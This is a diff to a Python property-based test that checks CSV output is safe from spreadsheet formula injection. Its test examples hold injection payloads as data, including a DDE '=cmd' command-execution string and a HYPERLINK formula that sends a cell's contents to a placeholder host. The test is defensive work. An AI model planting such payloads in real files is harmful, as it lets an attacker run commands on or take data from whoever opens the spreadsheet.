@@ -22,6 +22,8 @@ PIECES = st.sampled_from(
 TEXTS = st.lists(PIECES, max_size=8).map("".join) | st.text(
     st.characters(exclude_categories=("Cs",)), max_size=20
 )
+LAST = "."
+"""What the last column holds, so that none is empty: by itself neither a number nor a formula."""
 SEPARATED = [*SEPARATORS]
 LINES = ("\r\n", "\n", "\r", "\u2028", "\x85")
 
@@ -40,7 +42,7 @@ def readings(text):
 def calculates(cell):
     """Return whether a spreadsheet may calculate a cell."""
     parts = (part.strip('" ') for part in re.split(f"[{re.escape(''.join(SEPARATORS))}]", cell))
-    if all(not part or NUMBER.fullmatch(part) for part in parts):
+    if all(part in ("", LAST) or NUMBER.fullmatch(part) for part in parts):
         return False  # numbers side by side, which is nothing that can be worked out
     bare = cell.lstrip(PASSED_OVER)
     return bare.startswith(TRIGGERS) or cell.startswith(TRIGGERS)
@@ -51,9 +53,10 @@ def calculates(cell):
 @example(first="Acme;=cmd|'/C calc'!A0", second="see below\n=cmd|'/C calc'!A0", number=-1.5)
 @example(first='x;=HYPERLINK("http://example.invalid/?"&A1)', second="a\t=1", number=0.0)
 @example(first="\t=1+1", second="\r=1+1", number=0.0)
+@example(first="-5", second="", number=0.0)
 @example(first="\n=1+1", second='x,\N{ZERO WIDTH NO-BREAK SPACE}"＝1', number=0.0)
 def test_no_reader_finds_a_formula(layout, first, second, number):
-    rows = ({"a": first, "b": number, "c": second, "d": "."}, {"a": second, "b": None, "c": first})
+    rows = ({"a": first, "b": number, "c": second, "d": LAST}, {"a": second, "b": None, "c": first})
     text = csv_text(Table(("a", "b", "c", "d"), rows), layout)
     assert [cell for cell in readings(text) if calculates(cell)] == []
 
